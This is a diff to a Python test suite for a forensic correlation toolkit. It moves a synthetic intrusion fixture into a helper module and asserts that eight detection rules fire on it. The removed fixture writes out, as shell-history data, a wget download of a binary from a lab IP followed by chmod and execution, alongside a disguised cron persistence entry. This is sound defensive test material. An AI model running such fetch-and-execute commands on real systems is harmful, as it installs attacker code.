@@ -4,153 +4,11 @@ import json
 
 import pandas as pd
 
+from tests.helpers.synthetic_case import SID
+from tests.helpers.synthetic_case import implant_tables as _tables
 from toolkit.correlate.findings import correlate_snapshot
 from toolkit.correlate.rules import RULES
 from toolkit.correlate.timeline import build_timeline
-
-SID = "s1"
-
-
-def _tables():
-    t = {}
-    t["memory/processes"] = pd.DataFrame(
-        [
-            {
-                "pid": 1,
-                "ppid": 0,
-                "process": "init",
-                "is_kernel_thread": False,
-                "exe_path": "/init",
-                "exe_deleted": False,
-                "in_list": True,
-                "in_scan": True,
-                "start_ts": pd.Timestamp("2026-01-01T00:00:00Z"),
-            },
-            {
-                "pid": 2,
-                "ppid": 0,
-                "process": "kthreadd",
-                "is_kernel_thread": True,
-                "exe_path": None,
-                "exe_deleted": False,
-                "in_list": True,
-                "in_scan": True,
-            },
-            {
-                "pid": 77,
-                "ppid": 1,
-                "process": "kworker/0:2H",
-                "is_kernel_thread": False,
-                "exe_path": "/tmp/.kw (deleted)",
-                "exe_deleted": True,
-                "in_list": True,
-                "in_scan": True,
-                "start_ts": pd.Timestamp("2026-01-01T00:00:05Z"),
-            },
-            {
-                "pid": 80,
-                "ppid": 1,
-                "process": "labsvc",
-                "is_kernel_thread": False,
-                "exe_path": "/usr/sbin/labsvc",
-                "exe_deleted": False,
-                "in_list": True,
-                "in_scan": True,
-            },
-        ]
-    )
-    t["memory/sockets"] = pd.DataFrame(
-        [
-            {
-                "pid": 77,
-                "proto": "tcp",
-                "src_ip": "10.0.2.15",
-                "src_port": 40000,
-                "dst_ip": "10.0.2.100",
-                "dst_port": 8443,
-                "state": "ESTABLISHED",
-            },
-            {
-                "pid": 80,
-                "proto": "udp",
-                "src_ip": "0.0.0.0",
-                "src_port": 5353,
-                "dst_ip": "0.0.0.0",
-                "dst_port": 0,
-                "state": "UNCONNECTED",
-            },
-        ]
-    )
-    t["memory/executables"] = pd.DataFrame([{"pid": 77, "build_id": "abc", "first_page_sha256": "f" * 64}])
-    t["disk/files"] = pd.DataFrame(
-        [
-            {
-                "path": "/var/tmp/.cache/.kworker-upd",
-                "sha256": "1" * 64,
-                "build_id": "abc",
-                "first_page_sha256": "f" * 64,
-                "mtime": pd.Timestamp("2026-01-01T00:00:04Z"),
-            },
-            {"path": "/usr/sbin/labsvc", "sha256": "2" * 64},
-        ]
-    )
-    t["disk/persistence"] = pd.DataFrame(
-        [
-            {
-                "kind": "cron",
-                "path": "/etc/cron.d/upd",
-                "program": "/var/tmp/.cache/.kworker-upd",
-                "program_path": "/var/tmp/.cache/.kworker-upd",
-                "program_sha256": "1" * 64,
-            },
-        ]
-    )
-    t["disk/shell_history"] = pd.DataFrame(
-        [
-            {"command": "ls -la"},
-            {"command": "wget http://10.0.2.100:8443/kw -O /tmp/.kw"},
-            {"command": "chmod +x /tmp/.kw"},
-            {"command": "/tmp/.kw"},
-        ]
-    )
-    t["network/flows"] = pd.DataFrame(
-        [
-            {
-                "flow_id": "f1",
-                "proto": "tcp",
-                "src_ip": "10.0.2.15",
-                "src_port": 40000,
-                "dst_ip": "10.0.2.100",
-                "dst_port": 8443,
-                "first_ts": pd.Timestamp("2026-01-01T00:00:06Z"),
-                "last_ts": pd.Timestamp("2026-01-01T00:00:30Z"),
-                "beacon_intervals": 10,
-                "beacon_interval_mean": 2.0,
-                "beacon_interval_cv": 0.05,
-            },
-        ]
-    )
-    t["yara/matches"] = pd.DataFrame(
-        [
-            {
-                "target": "process",
-                "rule": "lab_marker",
-                "pid": 77,
-                "process": "kworker/0:2H",
-                "offset": 4096,
-                "severity": "high",
-            },
-            {"target": "stream", "rule": "lab_marker", "flow_id": "f1", "offset": 0, "severity": "high"},
-            {
-                "target": "file",
-                "rule": "lab_marker",
-                "path": "/var/tmp/.cache/.kworker-upd",
-                "offset": 100,
-                "severity": "high",
-            },
-        ]
-    )
-    return t
 
 
 def test_every_rule_is_documented():
@@ -284,6 +142,17 @@ def test_recorrelate_a_stored_case(tmp_path):
     case_store.save_manifest(case_dir, manifest)
     counts = recorrelate(case_dir)
     case = case_store.Case.open(case_dir)
-    assert counts == {SID: len(case.findings)} and len(case.findings) > 0
+    # the synthetic implant, every rule that keys on what its rows show
+    assert sorted(zip(case.findings["rule_id"], case.findings["entity"])) == [
+        ("history.download_execute", "process:77"),
+        ("net.periodic_beacon", "process:77"),
+        ("net.unexpected_outbound", "process:77"),
+        ("persist.suspicious_target", "process:77"),
+        ("proc.deleted_executable", "process:77"),
+        ("proc.kernel_thread_masquerade", "process:77"),
+        ("proc.suspicious_exec_path", "process:77"),
+        ("yara.match", "process:77"),
+    ]
+    assert counts == {SID: 8}
     assert "memory captured" in set(case.timeline["kind"])
     assert (case_dir / "findings.parquet").exists()
